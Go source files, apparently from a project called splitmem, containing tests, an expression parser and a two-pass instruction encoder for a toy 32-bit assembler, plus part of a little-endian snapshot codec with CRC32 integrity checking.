		t.Errorf("entry %#x want %#x", p.Entry, main)
	}
}

func TestJmpRegVsLabel(t *testing.T) {
	p := assemble(t, `
_start:
    jmp eax
    call edx
    call _start
`)
	ins := decodeAll(t, textSection(t, p).Data)
	if ins[0].Op != isa.OpJmpReg || ins[0].R1 != isa.EAX {
		t.Errorf("jmp eax: %+v", ins[0])
	}
	if ins[1].Op != isa.OpCallReg || ins[1].R1 != isa.EDX {
		t.Errorf("call edx: %+v", ins[1])
	}
	if ins[2].Op != isa.OpCall {
		t.Errorf("call label: %+v", ins[2])
	}
}

func TestErrors(t *testing.T) {
	bad := map[string]string{
		"unknown mnemonic":   "_start:\n frob eax\n",
		"undefined symbol":   "_start:\n mov eax, nosuch\n",
		"duplicate label":    "a:\na:\n ret\n",
		"bad operands":       "_start:\n load eax, ebx\n",
		"bad register":       "_start:\n mov zax, 1\n",
		"unterminated mem":   "_start:\n load eax, [ebp\n",
		"int vector too big": "_start:\n int 0x1ff\n",
		"space undefined":    ".data\n.space NOPE\n",
		"align non-pow2":     ".data\n.align 3\n",
		"duplicate equ":      ".equ A, 1\n.equ A, 2\n_start: ret\n",
		"section no addr":    ".section foo\n ret\n",
	}
	for name, src := range bad {
		if _, err := Assemble(src); err == nil {
			t.Errorf("%s: expected error", name)
		}
	}
}

func TestCommentStyles(t *testing.T) {
	p := assemble(t, `
; full line comment
# hash comment
_start: ret ; trailing
msg_holder:
    mov eax, ';'  ; semicolon char literal
`)
	ins := decodeAll(t, textSection(t, p).Data)
	if len(ins) != 2 || ins[1].Imm != uint32(';') {
		t.Errorf("instrs: %+v", ins)
	}
	_ = p
}

func TestLabelOnSameLine(t *testing.T) {
	p := assemble(t, "_start: mov eax, 5\n")
	ins := decodeAll(t, textSection(t, p).Data)
	if len(ins) != 1 || ins[0].Imm != 5 {
		t.Errorf("instrs: %+v", ins)
	}
}

func TestMarshalRoundTrip(t *testing.T) {
	p := assemble(t, `
_start:
    mov eax, 1
    int 0x80
.data
msg: .asciz "hello"
`)
	b, err := p.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	q, err := loader.Unmarshal(b)
	if err != nil {
		t.Fatal(err)
	}
	if q.Entry != p.Entry || len(q.Sections) != len(p.Sections) {
		t.Fatal("round trip mismatch")
	}
	for i := range p.Sections {
		if p.Sections[i].Name != q.Sections[i].Name ||
			p.Sections[i].Addr != q.Sections[i].Addr ||
			string(p.Sections[i].Data) != string(q.Sections[i].Data) {
			t.Fatalf("section %d differs", i)
		}
	}
	if q.Symbols["msg"] != p.Symbols["msg"] {
		t.Fatal("symbols differ")
	}
}

func TestMustAssemblePanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("expected panic")
		}
	}()
	MustAssemble("bogus instruction here\n")
}

func TestLineNumbersInErrors(t *testing.T) {
	_, err := Assemble("_start:\n ret\n frob\n")
	if err == nil || !strings.Contains(err.Error(), "line 3") {
		t.Errorf("error should cite line 3: %v", err)
	}
}
