package asm

import (
	"fmt"
	"strconv"
	"strings"
)

// exprParser evaluates assembler expressions: integers (decimal, 0x hex,
// character literals), symbols, unary minus, parentheses, and the binary
// operators + - * with conventional precedence. All arithmetic is uint32
// with wraparound, matching the machine's word size.
type exprParser struct {
	s    string
	pos  int
	syms func(name string) (uint32, bool)
}

func evalExpr(s string, syms func(string) (uint32, bool)) (uint32, error) {
	p := &exprParser{s: s, syms: syms}
	v, err := p.parseExpr()
	if err != nil {
		return 0, err
	}
	p.skipSpace()
	if p.pos != len(p.s) {
		return 0, fmt.Errorf("trailing junk %q in expression %q", p.s[p.pos:], s)
	}
	return v, nil
}

func (p *exprParser) skipSpace() {
	for p.pos < len(p.s) && (p.s[p.pos] == ' ' || p.s[p.pos] == '\t') {
		p.pos++
	}
}

func (p *exprParser) parseExpr() (uint32, error) {
	v, err := p.parseTerm()
	if err != nil {
		return 0, err
	}
	for {
		p.skipSpace()
		if p.pos >= len(p.s) {
			return v, nil
		}
		switch p.s[p.pos] {
		case '+':
			p.pos++
			t, err := p.parseTerm()
			if err != nil {
				return 0, err
			}
			v += t
		case '-':
			p.pos++
			t, err := p.parseTerm()
			if err != nil {
				return 0, err
			}
			v -= t
		default:
			return v, nil
		}
	}
}

func (p *exprParser) parseTerm() (uint32, error) {
	v, err := p.parseFactor()
	if err != nil {
		return 0, err
	}
	for {
		p.skipSpace()
		if p.pos >= len(p.s) || p.s[p.pos] != '*' {
			return v, nil
		}
		p.pos++
		f, err := p.parseFactor()
		if err != nil {
			return 0, err
		}
		v *= f
	}
}

func (p *exprParser) parseFactor() (uint32, error) {
	p.skipSpace()
	if p.pos >= len(p.s) {
		return 0, fmt.Errorf("unexpected end of expression %q", p.s)
	}
	c := p.s[p.pos]
	switch {
	case c == '-':
		p.pos++
		v, err := p.parseFactor()
		return -v, err
	case c == '(':
		p.pos++
		v, err := p.parseExpr()
		if err != nil {
			return 0, err
		}
		p.skipSpace()
		if p.pos >= len(p.s) || p.s[p.pos] != ')' {
			return 0, fmt.Errorf("missing ) in expression %q", p.s)
		}
		p.pos++
		return v, nil
	case c == '\'':
		return p.parseChar()
	case c >= '0' && c <= '9':
		return p.parseNumber()
	case isIdentStart(c):
		return p.parseSymbol()
	}
	return 0, fmt.Errorf("unexpected character %q in expression %q", c, p.s)
}

func (p *exprParser) parseChar() (uint32, error) {
	// p.s[p.pos] == '\''
	rest := p.s[p.pos+1:]
	if len(rest) == 0 {
		return 0, fmt.Errorf("unterminated character literal")
	}
	var v byte
	var n int
	if rest[0] == '\\' {
		if len(rest) < 2 {
			return 0, fmt.Errorf("unterminated escape in character literal")
		}
		e, err := unescape(rest[1])
		if err != nil {
			return 0, err
		}
		v, n = e, 2
	} else {
		v, n = rest[0], 1
	}
	if len(rest) <= n || rest[n] != '\'' {
		return 0, fmt.Errorf("unterminated character literal in %q", p.s)
	}
	p.pos += n + 2
	return uint32(v), nil
}

func (p *exprParser) parseNumber() (uint32, error) {
	start := p.pos
	for p.pos < len(p.s) && (isIdentChar(p.s[p.pos])) {
		p.pos++
	}
	tok := p.s[start:p.pos]
	v, err := strconv.ParseUint(tok, 0, 64)
	if err != nil {
		return 0, fmt.Errorf("bad number %q", tok)
	}
	if v > 0xFFFFFFFF {
		return 0, fmt.Errorf("number %q exceeds 32 bits", tok)
	}
	return uint32(v), nil
}

func (p *exprParser) parseSymbol() (uint32, error) {
	start := p.pos
	for p.pos < len(p.s) && isIdentChar(p.s[p.pos]) {
		p.pos++
	}
	name := p.s[start:p.pos]
	v, ok := p.syms(name)
	if !ok {
		return 0, fmt.Errorf("undefined symbol %q", name)
	}
	return v, nil
}

func isIdentStart(c byte) bool {
	return c == '_' || c == '.' || (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z')
}

func isIdentChar(c byte) bool {
	return isIdentStart(c) || (c >= '0' && c <= '9') || c == 'x' || c == 'X'
}

func unescape(c byte) (byte, error) {
	switch c {
	case 'n':
		return '\n', nil
	case 'r':
		return '\r', nil
	case 't':
		return '\t', nil
	case '0':
		return 0, nil
	case '\\':
		return '\\', nil
	case '\'':
		return '\'', nil
	case '"':
		return '"', nil
	}
	return 0, fmt.Errorf("unknown escape \\%c", c)
}

// parseString parses a double-quoted string literal with escapes, returning
// the bytes and the remainder of the input after the closing quote.
func parseString(s string) ([]byte, string, error) {
	s = strings.TrimLeft(s, " \t")
	if len(s) == 0 || s[0] != '"' {
		return nil, "", fmt.Errorf("expected string literal")
	}
	var out []byte
	i := 1
	for i < len(s) {
		c := s[i]
		switch c {
		case '"':
			return out, s[i+1:], nil
		case '\\':
			if i+1 >= len(s) {
				return nil, "", fmt.Errorf("unterminated escape")
			}
			e, err := unescape(s[i+1])
			if err != nil {
				return nil, "", err
			}
			out = append(out, e)
			i += 2
		default:
			out = append(out, c)
			i++
		}
	}
	return nil, "", fmt.Errorf("unterminated string literal")
}
