package asm

import (
	"bytes"
	"fmt"
	"math/rand"
	"strings"
	"testing"
	"testing/quick"

	"splitmem/internal/guest"
	"splitmem/internal/isa"
)

// TestAssembleDeterministic: identical source must produce bit-identical
// binaries (required for the dlload digest scheme).
func TestAssembleDeterministic(t *testing.T) {
	src := guest.WithCRT(`
_start:
    mov eax, msg
    push eax
    call print
    add esp, 4
    mov eax, 0
    push eax
    call exit
.data
msg: .asciz "det\n"
`)
	a, err := Assemble(src)
	if err != nil {
		t.Fatal(err)
	}
	b, err := Assemble(src)
	if err != nil {
		t.Fatal(err)
	}
	ba, _ := a.Marshal()
	bb, _ := b.Marshal()
	if !bytes.Equal(ba, bb) {
		t.Fatal("assembly is not deterministic")
	}
}

// TestQuickAssembleNoPanic: arbitrary junk source must produce an error or
// a program, never a panic.
func TestQuickAssembleNoPanic(t *testing.T) {
	words := []string{
		"mov", "add", "load", "store", "jmp", "call", "ret", "push", "pop",
		"eax", "ebx", "esp", "[ebp+4]", "[", "]", ",", ":", "0x10", "-1",
		".text", ".data", ".word", ".byte", ".asciz", ".space", ".align",
		".equ", ".entry", ".section", "label", "\"str\"", "'c'", "+", "*",
		"(", ")", ";", "\n",
	}
	f := func(seed int64, n uint8) bool {
		r := rand.New(rand.NewSource(seed))
		var sb strings.Builder
		for i := 0; i < int(n); i++ {
			sb.WriteString(words[r.Intn(len(words))])
			if r.Intn(3) == 0 {
				sb.WriteString("\n")
			} else {
				sb.WriteString(" ")
			}
		}
		_, _ = Assemble(sb.String()) // must not panic
		return true
	}
	cfg := &quick.Config{MaxCount: 2000, Rand: rand.New(rand.NewSource(99))}
	if err := quick.Check(f, cfg); err != nil {
		t.Fatal(err)
	}
}

// TestQuickEncodedInstructionsDecode: every instruction the assembler emits
// must decode back to a defined instruction of the same length (text
// sections contain no undecodable bytes).
func TestQuickEncodedInstructionsDecode(t *testing.T) {
	mnems := []struct {
		text string
	}{
		{"mov eax, %d"}, {"add ebx, %d"}, {"sub ecx, %d"}, {"cmp edx, %d"},
		{"and esi, %d"}, {"or edi, %d"}, {"xor eax, %d"}, {"mul ebx, %d"},
		{"mov eax, ebx"}, {"add ecx, edx"}, {"push esi"}, {"pop edi"},
		{"load eax, [ebp+%d]"}, {"store [esp+%d], eax"}, {"lea esi, [edi+%d]"},
		{"loadb ecx, [ebx+%d]"}, {"storeb [eax+%d], edx"},
		{"shl eax, 3"}, {"shr ebx, 7"}, {"nop"}, {"ret"}, {"int 0x80"},
		{"inc eax"}, {"dec ebx"},
	}
	f := func(seed int64, count uint8) bool {
		r := rand.New(rand.NewSource(seed))
		var sb strings.Builder
		sb.WriteString("_start:\n")
		n := int(count)%40 + 1
		for i := 0; i < n; i++ {
			m := mnems[r.Intn(len(mnems))]
			line := m.text
			if strings.Contains(line, "%d") {
				line = fmt.Sprintf(line, r.Intn(4096))
			}
			sb.WriteString("    " + line + "\n")
		}
		prog, err := Assemble(sb.String())
		if err != nil {
			return false
		}
		code := prog.Sections[0].Data
		for len(code) > 0 {
			in, err := isa.Decode(code)
			if err != nil {
				return false
			}
			code = code[in.Size:]
		}
		return true
	}
	cfg := &quick.Config{MaxCount: 500, Rand: rand.New(rand.NewSource(17))}
	if err := quick.Check(f, cfg); err != nil {
		t.Fatal(err)
	}
}

// TestCRTAssemblesStandalone ensures the runtime on its own is well-formed
// (every guest program depends on it).
func TestCRTAssemblesStandalone(t *testing.T) {
	prog, err := Assemble("_start: ret\n" + guest.CRT)
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{
		"exit", "read", "write", "strlen", "strcpy", "memcpy", "print",
		"read_line", "read_exact", "atoi", "itoa_hex", "htoi",
		"malloc", "free", "setjmp", "longjmp",
	} {
		if _, ok := prog.Symbol(name); !ok {
			t.Errorf("CRT missing %s", name)
		}
	}
}

func TestAssembleListing(t *testing.T) {
	src := `_start:
    mov eax, 1
    int 0x80
.data
msg: .asciz "hi"
`
	prog, listing, err := AssembleListing(src)
	if err != nil {
		t.Fatal(err)
	}
	if prog.Entry == 0 {
		t.Fatal("no program")
	}
	for _, want := range []string{
		"08048000  b8 01 00 00 00", // mov eax, 1
		"08048005  cd 80",          // int 0x80
		"08060000  68 69 00",       // "hi\0"
		"mov eax, 1",
	} {
		if !strings.Contains(listing, want) {
			t.Fatalf("listing missing %q:\n%s", want, listing)
		}
	}
}

func TestAssembleListingMatchesAssemble(t *testing.T) {
	src := guest.WithCRT("_start: ret\n")
	a, err := Assemble(src)
	if err != nil {
		t.Fatal(err)
	}
	b, _, err := AssembleListing(src)
	if err != nil {
		t.Fatal(err)
	}
	ab, _ := a.Marshal()
	bb, _ := b.Marshal()
	if !bytes.Equal(ab, bb) {
		t.Fatal("listing assembly diverges from plain assembly")
	}
}
