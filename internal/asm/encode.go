package asm

import (
	"fmt"
	"strings"

	"splitmem/internal/isa"
	"splitmem/internal/loader"
)

// instrShape describes how a mnemonic maps onto opcodes for each operand
// combination.
type instrShape struct {
	rr  isa.Op // reg, reg
	ri  isa.Op // reg, imm32
	ri8 isa.Op // reg, imm8
	rm  isa.Op // reg, [mem]
	mr  isa.Op // [mem], reg
	rel isa.Op // rel32 branch
	r   isa.Op // single register
	i8  isa.Op // single imm8
	n   isa.Op // no operands
}

var shapes = map[string]instrShape{
	"mov":    {rr: isa.OpMov, ri: isa.OpMovImm},
	"add":    {rr: isa.OpAdd, ri: isa.OpAddImm},
	"sub":    {rr: isa.OpSub, ri: isa.OpSubImm},
	"and":    {rr: isa.OpAnd, ri: isa.OpAndImm},
	"or":     {rr: isa.OpOr, ri: isa.OpOrImm},
	"xor":    {rr: isa.OpXor, ri: isa.OpXorImm},
	"cmp":    {rr: isa.OpCmp, ri: isa.OpCmpImm},
	"mul":    {rr: isa.OpMul, ri: isa.OpMulImm},
	"div":    {rr: isa.OpDiv},
	"mod":    {rr: isa.OpMod},
	"shl":    {ri8: isa.OpShl},
	"shr":    {ri8: isa.OpShr},
	"load":   {rm: isa.OpLoad},
	"loadb":  {rm: isa.OpLoadB},
	"lea":    {rm: isa.OpLea},
	"store":  {mr: isa.OpStore},
	"storeb": {mr: isa.OpStoreB},
	"push":   {r: isa.OpPush},
	"pop":    {r: isa.OpPop},
	"jmp":    {rel: isa.OpJmp, r: isa.OpJmpReg},
	"call":   {rel: isa.OpCall, r: isa.OpCallReg},
	"jz":     {rel: isa.OpJz},
	"je":     {rel: isa.OpJz},
	"jnz":    {rel: isa.OpJnz},
	"jne":    {rel: isa.OpJnz},
	"jl":     {rel: isa.OpJl},
	"jge":    {rel: isa.OpJge},
	"jg":     {rel: isa.OpJg},
	"jle":    {rel: isa.OpJle},
	"jb":     {rel: isa.OpJb},
	"jae":    {rel: isa.OpJae},
	"ja":     {rel: isa.OpJa},
	"jbe":    {rel: isa.OpJbe},
	"int":    {i8: isa.OpInt},
	"ret":    {n: isa.OpRet},
	"nop":    {n: isa.OpNop},
	"hlt":    {n: isa.OpHlt},
	"int3":   {n: isa.OpInt3},
	"ud":     {n: isa.OpUndef},
}

// selectOp chooses the opcode and operand layout for a statement. The
// returned instr has registers filled in; immediates/displacements are
// resolved in pass 2. kind tells pass 2 how to interpret expressions.
type selected struct {
	op      isa.Op
	r1, r2  byte
	expr    string // immediate / displacement / branch target / int vector
	negDisp bool
	isRel   bool // expr is a branch target (pc-relative encoding)
}

func selectInstr(s *stmt) (selected, error) {
	name := s.name
	// Pseudo-instructions.
	switch name {
	case "inc", "dec":
		if len(s.instArgs) != 1 || s.instArgs[0].kind != opReg {
			return selected{}, fmt.Errorf("%s takes one register", name)
		}
		op := isa.OpAddImm
		if name == "dec" {
			op = isa.OpSubImm
		}
		return selected{op: op, r1: s.instArgs[0].reg, expr: "1"}, nil
	}
	sh, ok := shapes[name]
	if !ok {
		return selected{}, fmt.Errorf("unknown mnemonic %q", name)
	}
	args := s.instArgs
	switch len(args) {
	case 0:
		if sh.n == 0 {
			return selected{}, fmt.Errorf("%s requires operands", name)
		}
		return selected{op: sh.n}, nil
	case 1:
		a := args[0]
		switch {
		case a.kind == opReg && sh.r != 0:
			return selected{op: sh.r, r1: a.reg}, nil
		case a.kind == opExpr && sh.rel != 0:
			return selected{op: sh.rel, expr: a.expr, isRel: true}, nil
		case a.kind == opExpr && sh.i8 != 0:
			return selected{op: sh.i8, expr: a.expr}, nil
		}
	case 2:
		a, b := args[0], args[1]
		switch {
		case a.kind == opReg && b.kind == opReg && sh.rr != 0:
			return selected{op: sh.rr, r1: a.reg, r2: b.reg}, nil
		case a.kind == opReg && b.kind == opExpr && sh.ri != 0:
			return selected{op: sh.ri, r1: a.reg, expr: b.expr}, nil
		case a.kind == opReg && b.kind == opExpr && sh.ri8 != 0:
			return selected{op: sh.ri8, r1: a.reg, expr: b.expr}, nil
		case a.kind == opReg && b.kind == opMem && sh.rm != 0:
			return selected{op: sh.rm, r1: a.reg, r2: b.reg, expr: b.expr, negDisp: b.neg}, nil
		case a.kind == opMem && b.kind == opReg && sh.mr != 0:
			return selected{op: sh.mr, r1: a.reg, r2: b.reg, expr: a.expr, negDisp: a.neg}, nil
		}
	}
	return selected{}, fmt.Errorf("invalid operands for %s: %s", name, strings.Join(s.args, ", "))
}

func instrSize(sel selected) uint32 {
	return uint32(isa.Len(isa.Instr{Op: sel.op}))
}

// ---- pass 1: layout ----

func (a *assembler) layout() error {
	for i := range a.stmts {
		s := &a.stmts[i]
		switch s.kind {
		case stLabel:
			if a.cur < 0 {
				a.startDefaultText()
			}
			if _, dup := a.symbols[s.name]; dup {
				return a.errf(s.line, "duplicate symbol %q", s.name)
			}
			sec := &a.sections[a.cur]
			a.symbols[s.name] = sec.addr + sec.pc
			s.section, s.addr = a.cur, sec.addr+sec.pc
		case stDirective:
			if err := a.layoutDirective(s); err != nil {
				return err
			}
		case stInstr:
			if a.cur < 0 {
				a.startDefaultText()
			}
			sel, err := selectInstr(s)
			if err != nil {
				return a.errf(s.line, "%v", err)
			}
			sec := &a.sections[a.cur]
			s.section, s.addr = a.cur, sec.addr+sec.pc
			s.size = instrSize(sel)
			sec.pc += s.size
		}
	}
	return nil
}

func (a *assembler) startDefaultText() {
	a.cur = a.findOrAddSection(".text", DefaultTextAddr, loader.PermR|loader.PermX)
}

func (a *assembler) findOrAddSection(name string, addr uint32, perm byte) int {
	for i := range a.sections {
		if a.sections[i].name == name {
			return i
		}
	}
	a.sections = append(a.sections, section{name: name, addr: addr, perm: perm})
	return len(a.sections) - 1
}

func (a *assembler) lookup1(name string) (uint32, bool) {
	v, ok := a.symbols[name]
	return v, ok
}

func (a *assembler) layoutDirective(s *stmt) error {
	switch s.name {
	case ".text", ".data":
		addr, perm := uint32(DefaultTextAddr), byte(loader.PermR|loader.PermX)
		if s.name == ".data" {
			addr, perm = DefaultDataAddr, loader.PermR|loader.PermW
		}
		if len(s.args) >= 1 && s.args[0] != "" {
			v, err := evalExpr(s.args[0], a.lookup1)
			if err != nil {
				return a.errf(s.line, "%v", err)
			}
			addr = v
		}
		idx := a.findOrAddSection(s.name, addr, perm)
		if len(s.args) >= 1 && s.args[0] != "" && a.sections[idx].pc == 0 {
			a.sections[idx].addr = addr
		}
		a.cur = idx
	case ".section":
		if len(s.args) < 1 {
			return a.errf(s.line, ".section requires a name")
		}
		fields := strings.Fields(s.args[0])
		name := fields[0]
		exists := false
		for i := range a.sections {
			if a.sections[i].name == name {
				a.cur = i
				exists = true
				break
			}
		}
		if exists {
			break
		}
		if len(fields) < 3 {
			return a.errf(s.line, ".section %s requires addr and perms on first use", name)
		}
		addr, err := evalExpr(fields[1], a.lookup1)
		if err != nil {
			return a.errf(s.line, "%v", err)
		}
		perm, err := parsePerm(fields[2])
		if err != nil {
			return a.errf(s.line, "%v", err)
		}
		a.cur = a.findOrAddSection(name, addr, perm)
	case ".entry":
		if len(s.args) != 1 {
			return a.errf(s.line, ".entry requires one symbol")
		}
		a.entryStr = s.args[0]
	case ".equ":
		if len(s.args) != 2 {
			return a.errf(s.line, ".equ requires NAME, expr")
		}
		name := strings.TrimSpace(s.args[0])
		if _, dup := a.symbols[name]; dup {
			return a.errf(s.line, "duplicate symbol %q", name)
		}
		v, err := evalExpr(s.args[1], a.lookup1)
		if err != nil {
			return a.errf(s.line, "%v", err)
		}
		a.symbols[name] = v
	case ".word", ".byte", ".ascii", ".asciz", ".space", ".align":
		if a.cur < 0 {
			return a.errf(s.line, "%s outside any section", s.name)
		}
		sec := &a.sections[a.cur]
		s.section, s.addr = a.cur, sec.addr+sec.pc
		size, err := a.dataSize(s, sec.pc)
		if err != nil {
			return err
		}
		s.size = size
		sec.pc += size
	default:
		return a.errf(s.line, "unknown directive %s", s.name)
	}
	return nil
}

func (a *assembler) dataSize(s *stmt, pc uint32) (uint32, error) {
	switch s.name {
	case ".word":
		return 4 * uint32(len(s.args)), nil
	case ".byte":
		return uint32(len(s.args)), nil
	case ".ascii", ".asciz":
		str, _, err := parseString(s.raw)
		if err != nil {
			return 0, a.errf(s.line, "%v", err)
		}
		n := uint32(len(str))
		if s.name == ".asciz" {
			n++
		}
		return n, nil
	case ".space":
		if len(s.args) < 1 {
			return 0, a.errf(s.line, ".space requires a size")
		}
		n, err := evalExpr(s.args[0], a.lookup1)
		if err != nil {
			return 0, a.errf(s.line, ".space size: %v (must be resolvable at layout time)", err)
		}
		return n, nil
	case ".align":
		if len(s.args) != 1 {
			return 0, a.errf(s.line, ".align requires a boundary")
		}
		n, err := evalExpr(s.args[0], a.lookup1)
		if err != nil || n == 0 || n&(n-1) != 0 {
			return 0, a.errf(s.line, ".align requires a power-of-two boundary")
		}
		return (n - pc%n) % n, nil
	}
	return 0, a.errf(s.line, "unhandled data directive %s", s.name)
}

func parsePerm(s string) (byte, error) {
	var p byte
	for _, c := range s {
		switch c {
		case 'r':
			p |= loader.PermR
		case 'w':
			p |= loader.PermW
		case 'x':
			p |= loader.PermX
		case '-':
		default:
			return 0, fmt.Errorf("bad permission string %q", s)
		}
	}
	return p, nil
}

// ---- pass 2: emit ----

func (a *assembler) lookup(name string) (uint32, bool) {
	v, ok := a.symbols[name]
	return v, ok
}

func (a *assembler) emit() (*loader.Program, error) {
	for i := range a.stmts {
		s := &a.stmts[i]
		switch s.kind {
		case stInstr:
			if err := a.emitInstr(s); err != nil {
				return nil, err
			}
		case stDirective:
			if err := a.emitData(s); err != nil {
				return nil, err
			}
		}
	}
	p := &loader.Program{Symbols: a.symbols}
	for i := range a.sections {
		sec := &a.sections[i]
		if sec.pc == 0 {
			continue
		}
		p.Sections = append(p.Sections, loader.Section{
			Name: sec.name,
			Addr: sec.addr,
			Size: sec.pc,
			Perm: sec.perm,
			Data: sec.buf,
		})
	}
	// Entry point resolution.
	switch {
	case a.entryStr != "":
		v, err := evalExpr(a.entryStr, a.lookup)
		if err != nil {
			return nil, &Error{Msg: fmt.Sprintf(".entry: %v", err)}
		}
		p.Entry = v
	default:
		if v, ok := a.symbols["_start"]; ok {
			p.Entry = v
		} else {
			for i := range p.Sections {
				if p.Sections[i].Name == ".text" {
					p.Entry = p.Sections[i].Addr
					break
				}
			}
		}
	}
	if err := p.Validate(); err != nil {
		return nil, err
	}
	return p, nil
}

func (a *assembler) emitInstr(s *stmt) error {
	sel, err := selectInstr(s)
	if err != nil {
		return a.errf(s.line, "%v", err)
	}
	in := isa.Instr{Op: sel.op, R1: sel.r1, R2: sel.r2}
	if sel.expr != "" || sel.isRel {
		v, err := evalExpr(sel.expr, a.lookup)
		if err != nil {
			return a.errf(s.line, "%v", err)
		}
		if sel.negDisp {
			v = -v
		}
		if sel.isRel {
			v -= s.addr + s.size
		}
		if sel.op == isa.OpInt && v > 0xFF {
			return a.errf(s.line, "int vector %#x exceeds a byte", v)
		}
		if (sel.op == isa.OpShl || sel.op == isa.OpShr) && v > 0xFF {
			return a.errf(s.line, "shift count %#x exceeds a byte", v)
		}
		in.Imm = v
	}
	sec := &a.sections[s.section]
	before := len(sec.buf)
	sec.buf = isa.Encode(sec.buf, in)
	if uint32(len(sec.buf)-before) != s.size {
		return a.errf(s.line, "internal: size mismatch for %s (%d != %d)", s.name, len(sec.buf)-before, s.size)
	}
	return nil
}

func (a *assembler) emitData(s *stmt) error {
	if s.size == 0 && s.name != ".word" && s.name != ".byte" {
		return nil
	}
	switch s.name {
	case ".word":
		sec := &a.sections[s.section]
		for _, arg := range s.args {
			v, err := evalExpr(arg, a.lookup)
			if err != nil {
				return a.errf(s.line, "%v", err)
			}
			sec.buf = append(sec.buf, byte(v), byte(v>>8), byte(v>>16), byte(v>>24))
		}
	case ".byte":
		sec := &a.sections[s.section]
		for _, arg := range s.args {
			v, err := evalExpr(arg, a.lookup)
			if err != nil {
				return a.errf(s.line, "%v", err)
			}
			if v > 0xFF && v < 0xFFFFFF00 {
				return a.errf(s.line, ".byte value %#x out of range", v)
			}
			sec.buf = append(sec.buf, byte(v))
		}
	case ".ascii", ".asciz":
		str, _, err := parseString(s.raw)
		if err != nil {
			return a.errf(s.line, "%v", err)
		}
		sec := &a.sections[s.section]
		sec.buf = append(sec.buf, str...)
		if s.name == ".asciz" {
			sec.buf = append(sec.buf, 0)
		}
	case ".space":
		fill := byte(0)
		if len(s.args) >= 2 {
			v, err := evalExpr(s.args[1], a.lookup)
			if err != nil {
				return a.errf(s.line, "%v", err)
			}
			fill = byte(v)
		}
		sec := &a.sections[s.section]
		for i := uint32(0); i < s.size; i++ {
			sec.buf = append(sec.buf, fill)
		}
	case ".align":
		sec := &a.sections[s.section]
		for i := uint32(0); i < s.size; i++ {
			sec.buf = append(sec.buf, 0)
		}
	}
	return nil
}
