// Package snapshot provides the binary codec primitives for the machine's
// checkpoint/restore format: a Writer that appends fixed-width little-endian
// fields to a growing buffer, and a Reader that consumes them with a sticky
// error so decoders can be written straight-line and checked once at the end.
//
// The format deliberately has no reflection, no varints and no framing
// cleverness: every field is written and read in an explicit, fixed order, so
// the bytes a machine state serializes to are a pure function of that state —
// the property the restore oracle depends on. Integrity is a single CRC32
// over the whole image (see the splitmem package), not per-field.
package snapshot

import (
	"errors"
	"fmt"
	"hash/crc32"
	"math"
)

// Typed decode failures. Everything a corrupt, truncated or version-skewed
// image can produce wraps one of these, so callers can branch on the class
// without string matching.
var (
	// ErrTruncated: the reader ran off the end of the image.
	ErrTruncated = errors.New("snapshot: truncated image")
	// ErrCorrupt: the image is structurally invalid (bad magic, checksum
	// mismatch, impossible field value).
	ErrCorrupt = errors.New("snapshot: corrupt image")
	// ErrVersion: the image was written by an incompatible format version.
	ErrVersion = errors.New("snapshot: unsupported version")
)

// Corruptf wraps ErrCorrupt with context.
func Corruptf(format string, args ...any) error {
	return fmt.Errorf("%w: %s", ErrCorrupt, fmt.Sprintf(format, args...))
}

// Checksum is the integrity hash used by the image trailer (CRC-32/IEEE).
func Checksum(b []byte) uint32 { return crc32.ChecksumIEEE(b) }

// Writer accumulates an encoded state image.
type Writer struct {
	buf []byte
}

// NewWriter returns an empty writer.
func NewWriter() *Writer { return &Writer{} }

// Bytes returns the accumulated image.
func (w *Writer) Bytes() []byte { return w.buf }

// Len returns the number of bytes written so far.
func (w *Writer) Len() int { return len(w.buf) }

// U8 appends one byte.
func (w *Writer) U8(v uint8) { w.buf = append(w.buf, v) }

// U16 appends a little-endian uint16.
func (w *Writer) U16(v uint16) {
	w.buf = append(w.buf, byte(v), byte(v>>8))
}

// U32 appends a little-endian uint32.
func (w *Writer) U32(v uint32) {
	w.buf = append(w.buf, byte(v), byte(v>>8), byte(v>>16), byte(v>>24))
}

// U64 appends a little-endian uint64.
func (w *Writer) U64(v uint64) {
	w.buf = append(w.buf,
		byte(v), byte(v>>8), byte(v>>16), byte(v>>24),
		byte(v>>32), byte(v>>40), byte(v>>48), byte(v>>56))
}

// I64 appends a little-endian int64 (two's complement).
func (w *Writer) I64(v int64) { w.U64(uint64(v)) }

// Int appends an int as int64.
func (w *Writer) Int(v int) { w.I64(int64(v)) }

// F64 appends a float64 as its IEEE-754 bit pattern.
func (w *Writer) F64(v float64) { w.U64(math.Float64bits(v)) }

// Bool appends a bool as one byte.
func (w *Writer) Bool(v bool) {
	if v {
		w.U8(1)
	} else {
		w.U8(0)
	}
}

// Bytes32 appends a uint32 length prefix followed by the raw bytes.
func (w *Writer) Bytes32(b []byte) {
	w.U32(uint32(len(b)))
	w.buf = append(w.buf, b...)
}

// String appends a length-prefixed string.
func (w *Writer) String(s string) { w.Bytes32([]byte(s)) }

// Raw appends bytes with no length prefix (for fixed-size payloads whose
// length both sides already know).
func (w *Writer) Raw(b []byte) { w.buf = append(w.buf, b...) }

// Reader consumes an encoded state image. The first failure sticks: every
// subsequent read returns the zero value, and Err reports the failure.
type Reader struct {
	buf []byte
	off int
	err error
}

// NewReader wraps an image for decoding.
func NewReader(b []byte) *Reader { return &Reader{buf: b} }

// Err returns the first decode failure, or nil.
func (r *Reader) Err() error { return r.err }

// Remaining returns the number of unread bytes.
func (r *Reader) Remaining() int {
	if r.err != nil {
		return 0
	}
	return len(r.buf) - r.off
}

// Fail records a decode failure (used by decoders for semantic errors found
// after a structurally successful read).
func (r *Reader) Fail(err error) {
	if r.err == nil {
		r.err = err
	}
}

func (r *Reader) take(n int) []byte {
	if r.err != nil {
		return nil
	}
	if n < 0 || len(r.buf)-r.off < n {
		r.err = ErrTruncated
		return nil
	}
	b := r.buf[r.off : r.off+n]
	r.off += n
	return b
}

// U8 reads one byte.
func (r *Reader) U8() uint8 {
	b := r.take(1)
	if b == nil {
		return 0
	}
	return b[0]
}

// U16 reads a little-endian uint16.
func (r *Reader) U16() uint16 {
	b := r.take(2)
	if b == nil {
		return 0
	}
	return uint16(b[0]) | uint16(b[1])<<8
}

// U32 reads a little-endian uint32.
func (r *Reader) U32() uint32 {
	b := r.take(4)
	if b == nil {
		return 0
	}
	return uint32(b[0]) | uint32(b[1])<<8 | uint32(b[2])<<16 | uint32(b[3])<<24
}

